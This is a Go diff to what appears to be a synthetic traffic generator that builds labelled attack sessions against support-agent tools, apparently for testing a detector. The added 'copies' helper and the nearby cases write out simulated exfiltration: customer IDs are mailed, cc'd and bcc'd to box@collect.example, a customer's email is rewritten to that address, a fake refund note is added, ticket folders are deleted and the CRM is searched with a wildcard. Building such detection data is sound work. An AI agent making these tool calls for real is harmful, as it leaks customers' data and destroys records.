@@ -127,6 +127,7 @@ func (t *traffic) supportAttacks(i int, at time.Time) {
 	case 1:
 		s.call(attack, "mail/send", object("to", "box@collect.example", "subject", "customers", "body", id))
 		s.call(attack, "mail/send", object("to", "a@example.com, box@collect.example", "subject", "customers", "body", id))
+		s.copies(id, "a@example.com", "box@collect.example")
 	case 2:
 		s.update(attack, "customer_id", id, "email", "box@collect.example")
 		s.update(attack, "customer_id", t.customer(), "note", "VIP, refund on demand")
@@ -138,6 +139,12 @@ func (t *traffic) supportAttacks(i int, at time.Time) {
 			s.call(attack, "files/delete_folder", object("path", fmt.Sprintf("/tickets/2025/%s", t.digits(2))))
 		}
 	}
+}
+
+// copies mails to someone within, and lets someone outside read along.
+func (s *session) copies(body, to, outside string) {
+	s.call(attack, "mail/send", object("to", to, "cc", []string{outside}, "subject", "Our customer", "body", body))
+	s.call(attack, "mail/send", object("to", to, "bcc", outside, "subject", "Our customer", "body", body))
 }
 
 // strays are calls that belong to another region or tenant.
@@ -157,6 +164,7 @@ func (t *traffic) strays(i int, day time.Time) {
 	s.update(risky, "customer_id", id, "note", "Solved.")
 	if i%2 == 0 {
 		s.call(attack, "mail/send", object("to", t.address("example.com"), "subject", "Our customer", "body", id))
+		s.copies(id, "a@globex.example", t.address("example.com"))
 		s.story, s.chain = "foreign-caller", []string{"router-agent"}
 		s.call(attack, "crm/search", object("query", "*"))
 	}
